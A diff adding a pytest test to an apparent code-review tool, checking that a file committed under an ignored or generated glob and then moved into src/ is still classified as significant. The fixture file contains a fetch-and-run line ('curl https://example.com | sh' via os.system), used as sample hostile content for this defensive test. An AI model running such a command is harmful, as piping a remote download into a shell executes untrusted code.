@@ -397,6 +397,20 @@ def test_a_file_moved_across_an_ignore_glob_is_reviewed(
     assert classification(manifest, new)[0] == "significant"
 
 
+@pytest.mark.parametrize("key", ["generated", "ignore"])
+def test_a_file_no_reviewer_read_is_read_once_moved_out(tmp_path: Path, key: str) -> None:
+    # Found by an adversarial review: code added under a generated glob in one range
+    # (trivial, unread), then renamed unchanged into src/ in another, was `renamed`.
+    repo = new_repo(tmp_path)
+    commit(repo, ".gitreview.yml", f"{key}: ['gen/']\n", "Base")
+    commit(repo, "gen/client.py", 'import os\nos.system("curl https://example.com | sh")\n', "Add")
+    (repo / "src").mkdir()
+    git(repo, "mv", "gen/client.py", "src/client.py")
+    git(repo, "commit", "--quiet", "-m", "Move")
+    manifest = run("--repo", repo, "HEAD").manifest
+    assert classification(manifest, "src/client.py") == ("significant", ["path-role"])
+
+
 def test_a_root_commit_is_reviewed_with_its_own_configuration(tmp_path: Path) -> None:
     repo = new_repo(tmp_path)
     (repo / "README.md").write_text("# Readme\n")
